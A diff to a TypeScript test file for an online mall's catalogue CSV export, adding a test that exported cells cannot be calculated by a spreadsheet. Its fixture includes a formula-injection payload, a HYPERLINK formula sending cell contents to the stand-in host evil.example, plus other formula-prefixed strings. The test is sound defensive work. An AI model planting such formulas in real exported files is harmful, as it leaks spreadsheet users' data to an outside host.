@@ -1,11 +1,11 @@
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { goodsDetail } from '@/lib/contract/goods';
-import { exportCatalogue } from '@/server/mall/operator/catalogue/export';
+import { csvFormat, exportCatalogue } from '@/server/mall/operator/catalogue/export';
 import { importCatalogue } from '@/server/mall/operator/catalogue/import';
-import { columns } from '@/server/mall/operator/catalogue/row';
 import { startMall, type TestMall } from '@/tests/support/mall';
 
 let shop: TestMall;
@@ -82,12 +82,43 @@ describe('a good file', () => {
   test('comes back as it went in, and importing the export changes nothing', async () => {
     const before = await exported();
     expect(before.length).toBeGreaterThan(400);
-    const file = write(
-      'csv',
-      stringify(before, { header: true, columns: [...columns], cast: { boolean: String } }),
-    );
+    const file = write('csv', stringify(before, csvFormat));
     expect(await importCatalogue(shop.mall.host, file)).toEqual({ rows: before.length, issues: [] });
     expect(await exported()).toEqual(before);
+  });
+
+  test('has no cell that a spreadsheet calculates, and comes back with the same texts', async () => {
+    const formulas = {
+      nameZh: '=HYPERLINK("http://evil.example?"&A1,"x")',
+      nameEn: "'=1+1",
+      subtitleZh: '+86',
+      subtitleEn: '-5',
+      optionZh: '@SUM(1)',
+      optionEn: "''-1",
+      descriptionZh: '＝1+1\n=2',
+      specNameZh: "'",
+      specNameEn: '"=1+1"',
+      supplier: "'plain",
+    };
+    await importCatalogue(
+      shop.mall.host,
+      json([{ ...row({ goodsId: '=formula', specId: '-formula' }), ...formulas }]),
+    );
+    const before = (await exported()).filter(({ goodsId }) => goodsId === '=formula');
+    expect(before).toEqual([
+      expect.objectContaining({ goodsId: '=formula', specId: '-formula', ...formulas }),
+    ]);
+    const text = stringify(before, csvFormat);
+    const cells: string[][] = parse(text);
+    expect(cells.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    expect(cells[1]).toContain('1990');
+    await shop.mall.db
+      .updateTable('goods')
+      .set({ name_zh: '', name_en: '', supplier: '', detail: JSON.stringify({}) })
+      .where('id', '=', '=formula')
+      .execute();
+    expect(await importCatalogue(shop.mall.host, write('csv', text))).toEqual({ rows: 1, issues: [] });
+    expect((await exported()).filter(({ goodsId }) => goodsId === '=formula')).toEqual(before);
   });
 
   test('changes stock and what was supplied by the same number of pieces', async () => {
